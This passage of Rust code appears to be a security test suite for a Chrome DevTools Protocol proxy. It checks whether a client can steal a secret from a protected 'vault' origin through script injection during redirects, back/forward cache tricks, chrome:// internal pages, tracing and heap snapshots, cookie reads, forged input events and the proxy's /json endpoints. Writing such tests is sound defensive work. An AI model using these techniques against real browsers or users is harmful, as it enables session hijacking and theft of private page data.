fn oopif_capture_snapshot(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    let r = ctx.send("Page.captureSnapshot", json!({"format": "mhtml"}), Some(&s))?;
    ctx.holds_secret(
        "Page.captureSnapshot",
        r["data"].as_str().unwrap_or_default(),
    )
}

fn oopif_insert_text(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    click(ctx, &s, 100.0, 55.0)?;
    sleep(200);
    let text = format!("typed-{}", ctx.tag);
    ctx.send("Input.insertText", json!({"text": text}), Some(&s))?;
    ctx.app()
        .app_event(&ctx.tag, "typed", &text, Duration::from_secs(3))
        .map(|_| "the vault app's input handler sent the client's text".to_string())
        .ok_or_else(|| Stop::Failed("the vault app never saw the text".into()))
}

// ---- class 2: commits without interception ----

fn inflight_redirect(ctx: &Ctx) -> Res {
    let hop = format!(
        "http://ordinary.test/hop?ms=2000&to={}",
        encode(&ctx.vault("/app"))
    );
    let t = ctx.send("Target.createTarget", json!({"url": hop}), None)?;
    let id = t["targetId"].as_str().unwrap_or_default().to_string();
    // Attach while the hop is held.
    ctx.app()
        .wait(Duration::from_secs(5), |h| {
            h.path() == "/hop" && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Setup("the hop was never requested".into()))?;
    let s = ctx.attach(&id)?;
    let _ = ctx.send("Page.enable", json!({}), Some(&s));
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js()}),
        Some(&s),
    );
    let _ = ctx.send("Runtime.runIfWaitingForDebugger", json!({}), Some(&s));
    ctx.exfil_loop(&s, 6000);
    ctx.exfiltrated(3000)
}

fn bfcache_back(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let next = ctx.url("http://ordinary.test", "/page");
    let us = ctx.user_session(&tab)?;
    ctx.obs()
        .send("Page.navigate", json!({"url": next}), Some(&us))
        .map_err(|e| super::setup("the user's navigation", e))?;
    let _ = ctx
        .obs()
        .send("Target.detachFromTarget", json!({"sessionId": us}), None);
    ctx.user_wait_loaded(&tab, &next)?;
    let app_requests = |ctx: &Ctx| {
        ctx.app()
            .log()
            .iter()
            .filter(|h| h.path() == "/app" && h.target.contains(&ctx.tag))
            .count()
    };
    let before = app_requests(ctx);
    let s = ctx.attach(&tab)?;
    let _ = ctx.send(
        "Runtime.evaluate",
        json!({"expression": "setTimeout(() => history.back(), 50); true"}),
        Some(&s),
    );
    ctx.exfil_loop(&s, 3000);
    let proof = ctx.exfiltrated(3000)?;
    let restored = app_requests(ctx) == before;
    Ok(format!(
        "{proof} ({})",
        if restored {
            "restored from the back/forward cache: no new request"
        } else {
            "reloaded over the network"
        }
    ))
}

// ---- class 3: browser-internal pages ----

fn chrome_history(ctx: &Ctx) -> Res {
    user_visits_secret_url(ctx)?;
    let (_, s) = ctx.open("chrome://history")?;
    deep_text_holds_secret(ctx, &s, "chrome://history", HISTORY_MS)
}

// ---- class 4: profiling ----

fn tracing_page_session(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send(
        "Tracing.start",
        json!({"traceConfig": {"includedCategories": ["devtools.timeline", "disabled-by-default-devtools.timeline", "loading", "navigation", "browser"]}}),
        Some(&s),
    )?;
    user_visits_secret_url(ctx)?;
    let from = ctx.c.event_count();
    ctx.send("Tracing.end", json!({}), Some(&s))?;
    ctx.c.wait_event(
        from,
        &|e| e.method == "Tracing.tracingComplete",
        Duration::from_secs(10),
    );
    let text = serde_json::to_string(&ctx.events(from)).unwrap_or_default();
    ctx.holds_secret("the trace", &text)
}

// ---- class 5: the proxy's own surfaces ----

fn json_list_popup(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/popup"))?;
    ctx.user_eval(&tab, "openBlank()")?;
    sleep(300);
    let (status, body) = ctx.client_get("/json/list");
    if status != 200 {
        return Err(Stop::Failed(format!("/json/list answered {status}")));
    }
    ctx.holds_secret("/json/list", &body)
}

// ---- class 6: client headers on protected subresources ----

/// The client's page loads a vault subresource after `prepare`; the hit on the vault.
fn vault_subresource(
    ctx: &Ctx,
    prepare: &dyn Fn(&str) -> Result<(), Stop>,
) -> Result<super::app::Hit, Stop> {
    let (_, s) = client_page(ctx, None)?;
    prepare(&s)?;
    ctx.eval(
        &s,
        &format!(
            "fetch({}, {{mode: 'no-cors'}}).then(() => true, () => false)",
            json!(ctx.vault("/img"))
        ),
    )?;
    ctx.app()
        .wait(Duration::from_secs(3), |h| {
            h.host == on_site("vault.sliccy.ai")
                && h.path() == "/img"
                && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Failed("no vault subresource request".into()))
}

fn extra_headers_subresource(ctx: &Ctx) -> Res {
    let hit = vault_subresource(ctx, &|s| {
        ctx.send("Network.enable", json!({}), Some(s))?;
        ctx.send(
            "Network.setExtraHTTPHeaders",
            json!({"headers": {"X-Attack": ctx.tag}}),
            Some(s),
        )?;
        Ok(())
    })?;
    match hit.header("x-attack") {
        Some(v) if v == ctx.tag => Ok("the vault request carried X-Attack".into()),
        _ => Err(Stop::Failed("the vault request carried no X-Attack".into())),
    }
}

fn ua_override_subresource(ctx: &Ctx) -> Res {
    let ua = format!("attacker-{}", ctx.tag);
    let hit = vault_subresource(ctx, &|s| {
        ctx.send(
            "Network.setUserAgentOverride",
            json!({"userAgent": ua}),
            Some(s),
        )?;
        Ok(())
    })?;
    match hit.header("user-agent") {
        Some(v) if v == ua => Ok("the vault request carried the client's user agent".into()),
        other => Err(Stop::Failed(format!(
            "the vault request's agent: {other:?}"
        ))),
    }
}

// ---- class 7: other ways in ----

fn create_target_vault(ctx: &Ctx) -> Res {
    let (_, s) = ctx.open(&ctx.vault("/app"))?;
    ctx.exfil_loop(&s, 3000);
    ctx.exfiltrated(3000)
}

fn get_cookies_urls(ctx: &Ctx) -> Res {
    ctx.user_open(&ctx.vault("/app"))?;
    let (_, s) = client_page(ctx, None)?;
    let r = ctx.send(
        "Network.getCookies",
        json!({"urls": [format!("{}/", *VAULT)]}),
        Some(&s),
    )?;
    ctx.holds_secret("Network.getCookies", &r.to_string())
}

// ---- more of class 1 ----

/// Decodes standard base64 (padding and whitespace ignored).
fn b64decode(s: &str) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0);
    for c in s.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => continue,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    out
}

/// `text` without the value of each `key` up to `end` (dates and ids in a PDF).
fn strip_fields(mut text: String, key: &str, end: char) -> String {
    while let Some(i) = text.find(key) {
        let rest = &text[i + key.len()..];
        let j = rest.find(end).map_or(text.len(), |j| i + key.len() + j + 1);
        text.replace_range(i..j, "");
    }
    text
}

/// Normalizes a capture for comparison: a PDF loses its dates and ids.
fn normalize(data: &str) -> String {
    let bytes = b64decode(data);
    if !bytes.starts_with(b"%PDF") {
        return data.to_string();
    }
    let text: String = bytes.iter().map(|&b| b as char).collect();
    let text = strip_fields(text, "/CreationDate", ')');
    let text = strip_fields(text, "/ModDate", ')');
    strip_fields(text, "/ID [", ']')
}

/// Evidence that `got` (a capture by the client of `f`'s page, made with `method`/`params`) shows
/// the vault frame: it equals the observer's capture of the same page, and differs from the
/// observer's capture with the vault frame hidden.
fn visual_proof(ctx: &Ctx, f: &Framed, method: &str, params: Value, got: &str) -> Res {
    let s = ctx.user_session(&f.target)?;
    let capture = |ctx: &Ctx| -> Result<String, Stop> {
        let r = ctx
            .obs()
            .send(method, params.clone(), Some(&s))
            .map_err(|e| super::setup("the observer's capture", e))?;
        Ok(normalize(r["data"].as_str().unwrap_or_default()))
    };
    let shown = capture(ctx)?;
    let hide = |v: &str| {
        ctx.obs().send(
            "Runtime.evaluate",
            json!({"expression": format!("document.getElementById('f').style.visibility = '{v}'; true")}),
            Some(&s),
        )
    };
    let _ = hide("hidden");
    sleep(300);
    let hidden = capture(ctx)?;
    let _ = hide("visible");
    let _ = ctx
        .obs()
        .send("Target.detachFromTarget", json!({"sessionId": s}), None);
    let got = normalize(got);
    if got.is_empty() {
        return Err(Stop::Failed(format!("{method} gave nothing")));
    }
    if shown == hidden {
        return Err(Stop::Setup(format!(
            "{method}: the observer's captures do not change when the vault frame is hidden"
        )));
    }
    if got == shown {
        Ok(format!(
            "the client's {method} equals the observer's with the vault frame shown ({} bytes) and differs with it hidden",
            got.len()
        ))
    } else if got == hidden {
        Err(Stop::Failed(format!("{method} left the vault frame out")))
    } else {
        Err(Stop::Failed(format!(
            "{method} matches neither the observer's capture with the vault frame nor without"
        )))
    }
}

fn oopif_screenshot(ctx: &Ctx) -> Res {
    let f = oopif(ctx)?;
    // Let the out-of-process frame paint.
    sleep(500);
    let params = json!({"format": "png"});
    let r = ctx.send("Page.captureScreenshot", params.clone(), Some(&f.session))?;
    visual_proof(
        ctx,
        &f,
        "Page.captureScreenshot",
        params,
        r["data"].as_str().unwrap_or_default(),
    )
}

fn oopif_print_pdf(ctx: &Ctx) -> Res {
    let f = oopif(ctx)?;
    sleep(500);
    let params = json!({"printBackground": true});
    let r = ctx.send("Page.printToPDF", params.clone(), Some(&f.session))?;
    visual_proof(
        ctx,
        &f,
        "Page.printToPDF",
        params,
        r["data"].as_str().unwrap_or_default(),
    )
}

fn oopif_screencast(ctx: &Ctx) -> Res {
    let f = oopif(ctx)?;
    let from = ctx.c.event_count();
    ctx.send(
        "Page.startScreencast",
        json!({"format": "png", "everyNthFrame": 1}),
        Some(&f.session),
    )?;
    let frame_after = |from: usize| -> Option<(usize, String)> {
        let (i, e) = ctx.c.wait_event(
            from,
            &|e| e.method == "Page.screencastFrame",
            Duration::from_secs(4),
        )?;
        let _ = ctx.c.send(
            "Page.screencastFrameAck",
            json!({"sessionId": e.params["sessionId"]}),
            Some(&f.session),
        );
        Some((i, e.params["data"].as_str().unwrap_or_default().to_string()))
    };
    let (i, shown) = frame_after(from).ok_or_else(|| Stop::Failed("no screencast frame".into()))?;
    // The observer hides only the vault frame; the next frame must differ.
    let s = ctx.user_session(&f.target)?;
    let _ = ctx.obs().send(
        "Runtime.evaluate",
        json!({"expression": "document.getElementById('f').style.visibility = 'hidden'; true"}),
        Some(&s),
    );
    let mut next = i + 1;
    let deadline = std::time::Instant::now() + Duration::from_secs(4);
    while std::time::Instant::now() < deadline {
        let Some((j, hidden)) = frame_after(next) else {
            break;
        };
        if hidden != shown {
            let _ = ctx.send("Page.stopScreencast", json!({}), Some(&f.session));
            return Ok(format!(
                "the client's screencast frame ({} bytes) changed when only the vault frame was hidden",
                shown.len()
            ));
        }
        next = j + 1;
    }
    Err(Stop::Failed(
        "no screencast frame showing the vault frame".into(),
    ))
}

/// Waits for the vault app's beacon `kind` (containing `value`) for this attack.
fn app_saw(ctx: &Ctx, kind: &str, value: &str) -> Res {
    ctx.app()
        .app_event(&ctx.tag, kind, value, Duration::from_secs(3))
        .map(|h| {
            format!(
                "the vault app's own handler beaconed {kind} ({})",
                h.param("v").unwrap_or_default()
            )
        })
        .ok_or_else(|| Stop::Failed(format!("the vault app never saw {kind}")))
}

fn oopif_key_events(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    click(ctx, &s, 100.0, 55.0)?;
    sleep(200);
    for kind in ["keyDown", "keyUp"] {
        ctx.send(
            "Input.dispatchKeyEvent",
            json!({"type": kind, "key": "q", "code": "KeyQ", "text": if kind == "keyDown" { "q" } else { "" }, "windowsVirtualKeyCode": 81}),
            Some(&s),
        )?;
    }
    app_saw(ctx, "key", "q")
}

fn oopif_mouse_click(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    click(ctx, &s, 100.0, 100.0)?;
    app_saw(ctx, "clicked", "btn")
}

fn oopif_touch(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    ctx.send(
        "Input.dispatchTouchEvent",
        json!({"type": "touchStart", "touchPoints": [{"x": 100, "y": 100}]}),
        Some(&s),
    )?;
    let _ = ctx.send(
        "Input.dispatchTouchEvent",
        json!({"type": "touchEnd", "touchPoints": []}),
        Some(&s),
    );
    app_saw(ctx, "touched", "touch")
}

fn oopif_drop(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    let text = format!("dropped-{}", ctx.tag);
    let data =
        json!({"items": [{"mimeType": "text/plain", "data": text}], "dragOperationsMask": 1});
    for kind in ["dragEnter", "dragOver", "drop"] {
        ctx.send(
            "Input.dispatchDragEvent",
            json!({"type": kind, "x": 100, "y": 160, "data": data}),
            Some(&s),
        )?;
    }
    app_saw(ctx, "dropped", &text)
}

fn oopif_intercept_drags(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    ctx.send(
        "Input.setInterceptDrags",
        json!({"enabled": true}),
        Some(&s),
    )?;
    let from = ctx.c.event_count();
    let mouse = |kind: &str, x: f64, y: f64| {
        ctx.send(
            "Input.dispatchMouseEvent",
            json!({"type": kind, "x": x, "y": y, "button": "left", "buttons": 1, "clickCount": 1}),
            Some(&s),
        )
    };
    mouse("mousePressed", 250.0, 160.0)?;
    for (x, y) in [
        (255.0, 165.0),
        (270.0, 180.0),
        (300.0, 220.0),
        (320.0, 250.0),
    ] {
        let _ = mouse("mouseMoved", x, y);
        sleep(30);
    }
    let got = ctx.c.wait_event(
        from,
        &|e| e.method == "Input.dragIntercepted",
        Duration::from_secs(3),
    );
    let _ = mouse("mouseReleased", 320.0, 250.0);
    let text = got.map(|(_, e)| e.params.to_string()).unwrap_or_default();
    ctx.holds_secret("Input.dragIntercepted", &text)
}

/// A key press carrying editing `commands` on the client's `s`.
fn commands(ctx: &Ctx, s: &str, commands: &[&str]) -> Result<(), Stop> {
    ctx.send(
        "Input.dispatchKeyEvent",
        json!({"type": "rawKeyDown", "commands": commands}),
        Some(s),
    )?;
    ctx.send("Input.dispatchKeyEvent", json!({"type": "keyUp"}), Some(s))?;
    Ok(())
}

fn oopif_copy(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    click(ctx, &s, 300.0, 260.0)?;
    sleep(100);
    commands(ctx, &s, &["selectAll", "copy"])?;
    sleep(200);
    click(ctx, &s, 100.0, 340.0)?;
    sleep(100);
    commands(ctx, &s, &["paste"])?;
    sleep(200);
    let v = ctx.eval(&s, "document.getElementById('ta').value")?;
    ctx.holds_secret(
        "the client's textarea after copy and paste",
        v.as_str().unwrap_or_default(),
    )
}

fn oopif_paste(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    let text = format!("pasted-{}", ctx.tag);
    ctx.eval(
        &s,
        &format!(
            "const t = document.getElementById('ta'); t.value = {}; t.focus(); t.select(); true",
            json!(text)
        ),
    )?;
    commands(ctx, &s, &["copy"])?;
    sleep(100);
    click(ctx, &s, 100.0, 55.0)?;
    sleep(100);
    commands(ctx, &s, &["paste"])?;
    app_saw(ctx, "typed", &text)
}

fn oopif_ime(ctx: &Ctx) -> Res {
    let s = oopif(ctx)?.session;
    click(ctx, &s, 100.0, 55.0)?;
    sleep(200);
    let text = format!("ime-{}", ctx.tag);
    ctx.send(
        "Input.imeSetComposition",
        json!({"text": text, "selectionStart": 0, "selectionEnd": 0}),
        Some(&s),
    )?;
    let _ = ctx.send("Input.insertText", json!({"text": text}), Some(&s));
    app_saw(ctx, "typed", &text)
}

fn oopif_auto_attach(ctx: &Ctx) -> Res {
    let f = oopif(ctx)?;
    let from = ctx.c.event_count();
    ctx.send(
        "Target.setAutoAttach",
        json!({"autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true}),
        Some(&f.session),
    )?;
    let (_, e) = ctx
        .c
        .wait_event(
            from,
            &|e| {
                e.method == "Target.attachedToTarget"
                    && e.params["targetInfo"]["url"]
                        .as_str()
                        .is_some_and(|u| u.contains("vault"))
            },
            Duration::from_secs(3),
        )
        .ok_or_else(|| Stop::Failed("no session to the vault frame".into()))?;
    let s = e.params["sessionId"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let _ = ctx.eval(&s, &ctx.exfil_js());
    ctx.exfiltrated(3000)
}

fn created_frame_snapshot(ctx: &Ctx) -> Res {
    let (_, s) = ctx.open(&ctx.url(
        "http://ordinary.test",
        &format!("/page?frame={}", encode(&ctx.vault("/app"))),
    ))?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Failed("the vault frame never loaded".into()));
    }
    sleep(300);
    let r = ctx.send("Page.captureSnapshot", json!({"format": "mhtml"}), Some(&s))?;
    ctx.holds_secret(
        "Page.captureSnapshot",
        r["data"].as_str().unwrap_or_default(),
    )
}

// ---- more of class 2 ----

/// Base64 (standard, padded).
pub(super) fn b64encode(bytes: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |acc, (i, &b)| acc | u32::from(b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(T[(n >> (18 - 6 * i)) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The slow hop to the vault app: `http://ordinary.test/hop?ms=<ms>&to=<vault app>`.
fn hop_to_vault(ctx: &Ctx, ms: u64) -> String {
    format!(
        "http://ordinary.test/hop?ms={ms}&to={}",
        encode(&ctx.vault("/app"))
    )
}

/// The client creates a target on the slow hop and attaches while it is held.
fn attach_during_hop(ctx: &Ctx) -> Result<String, Stop> {
    let t = ctx.send(
        "Target.createTarget",
        json!({"url": hop_to_vault(ctx, 2000)}),
        None,
    )?;
    let id = t["targetId"].as_str().unwrap_or_default().to_string();
    ctx.app()
        .wait(Duration::from_secs(5), |h| {
            h.path() == "/hop" && h.target.contains(&ctx.tag)
        })
        .ok_or_else(|| Stop::Setup("the hop was never requested".into()))?;
    ctx.attach(&id)
}

fn inflight_binding(ctx: &Ctx) -> Res {
    let s = attach_during_hop(ctx)?;
    let _ = ctx.send("Page.enable", json!({}), Some(&s));
    let _ = ctx.send("Runtime.enable", json!({}), Some(&s));
    let from = ctx.c.event_count();
    ctx.send("Runtime.addBinding", json!({"name": "steal"}), Some(&s))?;
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": "document.addEventListener('DOMContentLoaded', () => { const e = document.getElementById('secret'); if (e) steal(e.textContent); })"}),
        Some(&s),
    );
    let deadline = std::time::Instant::now() + Duration::from_secs(6);
    let mut got = None;
    while got.is_none() && std::time::Instant::now() < deadline {
        let _ = ctx.eval_quick(
            &s,
            "(() => { const e = document.getElementById('secret'); if (e && typeof steal === 'function') steal(e.textContent); return location.origin; })()",
            500,
        );
        got = ctx.c.wait_event(
            from,
            &|e| e.method == "Runtime.bindingCalled",
            Duration::from_millis(50),
        );
    }
    ctx.holds_secret(
        "Runtime.bindingCalled",
        &got.map(|(_, e)| e.params.to_string()).unwrap_or_default(),
    )
}

fn own_page_slow_redirect(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    let _ = ctx.send("Page.enable", json!({}), Some(&s));
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js()}),
        Some(&s),
    );
    ctx.eval(
        &s,
        &format!("location.href = {}; true", json!(hop_to_vault(ctx, 800))),
    )?;
    ctx.exfil_loop(&s, 3000);
    ctx.exfiltrated(2000)
}

/// The user visits the service-worker host's app, which registers its worker; waits until the
/// worker is active. The user's tab id.
fn sw_ready(ctx: &Ctx) -> Result<String, Stop> {
    let tab = ctx.user_open(&ctx.url(&on_site("http://sw.sliccy.ai"), "/app?sw=1"))?;
    let ready = ctx.user_eval(
        &tab,
        "Promise.race([navigator.serviceWorker.ready.then(() => true), new Promise((r) => setTimeout(() => r(false), 5000))])",
    )?;
    if ready != json!(true) {
        return Err(Stop::Setup(
            "the vault's service worker never became ready".into(),
        ));
    }
    Ok(tab)
}

fn sw_page(ctx: &Ctx) -> String {
    ctx.url(&on_site("http://sw.sliccy.ai"), "/swpage")
}

fn sw_navigation(ctx: &Ctx) -> Res {
    sw_ready(ctx)?;
    let (_, s) = client_page(ctx, None)?;
    let _ = ctx.send("Page.enable", json!({}), Some(&s));
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js()}),
        Some(&s),
    );
    ctx.eval(
        &s,
        &format!("location.href = {}; true", json!(sw_page(ctx))),
    )?;
    ctx.exfil_loop(&s, 3000);
    ctx.exfiltrated(2000)
}

fn sw_page_navigate(ctx: &Ctx) -> Res {
    sw_ready(ctx)?;
    let (_, s) = client_page(ctx, None)?;
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js()}),
        Some(&s),
    );
    ctx.send("Page.navigate", json!({"url": sw_page(ctx)}), Some(&s))?;
    ctx.exfil_loop(&s, 3000);
    ctx.exfiltrated(2000)
}

/// The user opens the vault app (`query` added) and then navigates that tab to an ordinary
/// page; the tab's id.
fn user_left_vault(ctx: &Ctx, query: &str) -> Result<String, Stop> {
    let tab = ctx.user_open(&ctx.vault(&format!("/app{query}")))?;
    let next = ctx.url("http://ordinary.test", "/page");
    let us = ctx.user_session(&tab)?;
    ctx.obs()
        .send("Page.navigate", json!({"url": next}), Some(&us))
        .map_err(|e| super::setup("the user's navigation", e))?;
    let _ = ctx
        .obs()
        .send("Target.detachFromTarget", json!({"sessionId": us}), None);
    ctx.user_wait_loaded(&tab, &next)?;
    Ok(tab)
}

fn bfcache_history_entry(ctx: &Ctx) -> Res {
    let tab = user_left_vault(ctx, "")?;
    let s = ctx.attach(&tab)?;
    let h = ctx.send("Page.getNavigationHistory", json!({}), Some(&s))?;
    let index = h["currentIndex"].as_i64().unwrap_or(1);
    let entry = h["entries"]
        .as_array()
        .and_then(|e| e.get(usize::try_from(index - 1).unwrap_or(0)))
        .map(|e| e["id"].clone())
        .unwrap_or(json!(1));
    let _ = ctx.send(
        "Page.navigateToHistoryEntry",
        json!({"entryId": entry}),
        Some(&s),
    );
    ctx.exfil_loop(&s, 3000);
    ctx.exfiltrated(2000)
}

fn back_no_store(ctx: &Ctx) -> Res {
    let tab = user_left_vault(ctx, "?nostore=1")?;
    let s = ctx.attach(&tab)?;
    let _ = ctx.send("Page.enable", json!({}), Some(&s));
    let _ = ctx.send(
        "Page.addScriptToEvaluateOnNewDocument",
        json!({"source": ctx.exfil_js()}),
        Some(&s),
    );
    let _ = ctx.send(
        "Runtime.evaluate",
        json!({"expression": "setTimeout(() => history.back(), 50); true"}),
        Some(&s),
    );
    ctx.exfil_loop(&s, 3000);
    ctx.exfiltrated(2000)
}

// ---- more of class 3 ----

fn chrome_history_navigate(ctx: &Ctx) -> Res {
    user_visits_secret_url(ctx)?;
    let (_, s) = client_page(ctx, None)?;
    ctx.send(
        "Page.navigate",
        json!({"url": "chrome://history"}),
        Some(&s),
    )?;
    sleep(500);
    deep_text_holds_secret(ctx, &s, "chrome://history", HISTORY_MS)
}

/// The user has the vault open with the secret in its URL; the client opens `page` and reads it.
fn internal_page_lists_vault(ctx: &Ctx, page: &str) -> Res {
    user_visits_secret_url(ctx)?;
    let (_, s) = ctx.open(page)?;
    deep_text_holds_secret(ctx, &s, page, 8000)
}

fn chrome_inspect(ctx: &Ctx) -> Res {
    internal_page_lists_vault(ctx, "chrome://inspect/#pages")
}

fn process_internals(ctx: &Ctx) -> Res {
    internal_page_lists_vault(ctx, "chrome://process-internals/#web-contents")
}

fn serviceworker_internals(ctx: &Ctx) -> Res {
    sw_ready(ctx)?;
    let (_, s) = ctx.open("chrome://serviceworker-internals")?;
    deep_text_holds_secret(ctx, &s, "chrome://serviceworker-internals", 8000)
}

fn settings_permission(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let (_, s) = ctx.open("chrome://settings")?;
    sleep(500);
    ctx.eval(
        &s,
        &format!(
            "chrome.send('setOriginPermissions', [{}, 'notifications', 'allow']); true",
            json!(*VAULT)
        ),
    )?;
    sleep(500);
    let state = ctx.user_eval(&tab, "Notification.permission")?;
    if state == json!("granted") {
        Ok("the vault's notification permission is granted".into())
    } else {
        Err(Stop::Failed(format!(
            "the vault's notification permission: {state}"
        )))
    }
}

// ---- more of class 4 ----

fn tracing_stream(ctx: &Ctx) -> Res {
    let (_, s) = client_page(ctx, None)?;
    ctx.send(
        "Tracing.start",
        json!({"transferMode": "ReturnAsStream", "traceConfig": {"includedCategories": ["devtools.timeline", "loading", "navigation", "browser"]}}),
        Some(&s),
    )?;
    user_visits_secret_url(ctx)?;
    let from = ctx.c.event_count();
    ctx.send("Tracing.end", json!({}), Some(&s))?;
    let (_, done) = ctx
        .c
        .wait_event(
            from,
            &|e| e.method == "Tracing.tracingComplete",
            Duration::from_secs(10),
        )
        .ok_or_else(|| Stop::Failed("no tracingComplete".into()))?;
    let handle = done.params["stream"].clone();
    let mut text = String::new();
    for _ in 0..2000 {
        let r = ctx.send(
            "IO.read",
            json!({"handle": handle, "size": 1 << 20}),
            Some(&s),
        )?;
        let data = r["data"].as_str().unwrap_or_default();
        if r["base64Encoded"] == json!(true) {
            text.push_str(&String::from_utf8_lossy(&b64decode(data)));
        } else {
            text.push_str(data);
        }
        if r["eof"] == json!(true) {
            break;
        }
    }
    let _ = ctx.send("IO.close", json!({"handle": handle}), Some(&s));
    ctx.holds_secret("the trace stream", &text)
}

/// The client's page on `other.client.example` (ordinary, same site as the extra origin) opens
/// the app on `client.example` (protected) in a popup: the two share a renderer.
pub(super) fn same_site_popup(ctx: &Ctx, query: &str) -> Result<String, Stop> {
    let url = ctx.url("http://other.client.example", "/page");
    let (_, s) = ctx.open(&url)?;
    ctx.wait_true(
        &s,
        &format!(
            "location.href === {} && document.readyState === 'complete'",
            json!(url)
        ),
        10_000,
    )?;
    let app = ctx.url("http://client.example", &format!("/app{query}"));
    ctx.eval(
        &s,
        &format!("window.__w = window.open({}); true", json!(app)),
    )?;
    if !ctx.app_loaded(&ctx.tag, 5000) {
        return Err(Stop::Failed("the extra origin's page never loaded".into()));
    }
    sleep(300);
    Ok(s)
}

fn heap_snapshot_same_site(ctx: &Ctx) -> Res {
    let s = same_site_popup(ctx, "")?;
    let _ = ctx.send("HeapProfiler.enable", json!({}), Some(&s));
    let from = ctx.c.event_count();
    ctx.send(
        "HeapProfiler.takeHeapSnapshot",
        json!({"reportProgress": false}),
        Some(&s),
    )?;
    let mut text = String::new();
    for e in ctx.events(from) {
        if e.method == "HeapProfiler.addHeapSnapshotChunk" {
            text.push_str(e.params["chunk"].as_str().unwrap_or_default());
        }
    }
    ctx.holds_secret("the heap snapshot", &text)
}

fn cpu_profile_same_site(ctx: &Ctx) -> Res {
    let s = same_site_popup(ctx, "?busy=1")?;
    ctx.send("Profiler.enable", json!({}), Some(&s))?;
    let _ = ctx.send(
        "Profiler.setSamplingInterval",
        json!({"interval": 100}),
        Some(&s),
    );
    ctx.send("Profiler.start", json!({}), Some(&s))?;
    sleep(1500);
    let r = ctx.send("Profiler.stop", json!({}), Some(&s))?;
    ctx.holds_secret("the CPU profile", &r.to_string())
}

// ---- more of class 5 ----

fn unknown_session(ctx: &Ctx) -> Res {
    match ctx.c.send_timeout(
        "Runtime.evaluate",
        json!({"expression": "1"}),
        Some("0123456789ABCDEF0123456789ABCDEF"),
        Duration::from_secs(3),
    ) {
        Err(slicc_browsers::harness::runner::CallError::Timeout) => {
            Ok("no answer within 3 s: the client waits forever".into())
        }
        other => Err(Stop::Failed(format!("answered: {other:?}"))),
    }
}

fn json_list_vault(ctx: &Ctx) -> Res {
    user_visits_secret_url(ctx)?;
    let (_, body) = ctx.client_get("/json/list");
    ctx.holds_secret("/json/list", &body)
}

fn json_new_vault(ctx: &Ctx) -> Res {
    let (status, body) = ctx.client_http("PUT", &format!("/json/new?{}", ctx.vault("/app")));
    if ctx.app_loaded(&ctx.tag, 4000) {
        Ok(format!("the vault app loaded in the new target ({status})"))
    } else {
        Err(Stop::Failed(format!("/json/new answered {status} {body}")))
    }
}

fn json_close_vault(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let (status, _) = ctx.client_get(&format!("/json/close/{tab}"));
    sleep(500);
    if ctx.user_target("page", &ctx.tag).is_none() {
        Ok(format!("the vault tab is gone ({status})"))
    } else {
        Err(Stop::Failed(format!(
            "/json/close answered {status}; the tab is there"
        )))
    }
}

fn page_websocket(ctx: &Ctx) -> Res {
    let tab = ctx.user_open(&ctx.vault("/app"))?;
    let base = ctx.leg.client_http();
    let ws = format!("{}/devtools/page/{tab}", base.replace("http://", "ws://"));
    let page = slicc_browsers::harness::cdp::CdpClient::connect(
        &ws,
        slicc_browsers::harness::cdp::CdpOptions::new().call_timeout(Duration::from_secs(5)),
    )
    .map_err(|e| Stop::Failed(format!("{ws}: {e}")))?;
    let _ = page.send(
        "Runtime.evaluate",
        json!({"expression": ctx.exfil_js(), "awaitPromise": true}),
        None,
    );
    page.close();
    ctx.exfiltrated(2000)
}

// ---- more of class 6 ----

fn emulation_ua_subresource(ctx: &Ctx) -> Res {
    let ua = format!("emulated-{}", ctx.tag);
    let hit = vault_subresource(ctx, &|s| {
        ctx.send(
            "Emulation.setUserAgentOverride",
            json!({"userAgent": ua}),
            Some(s),
        )?;
        Ok(())
    })?;
    match hit.header("user-agent") {
        Some(v) if v == ua => Ok("the vault request carried the client's user agent".into()),
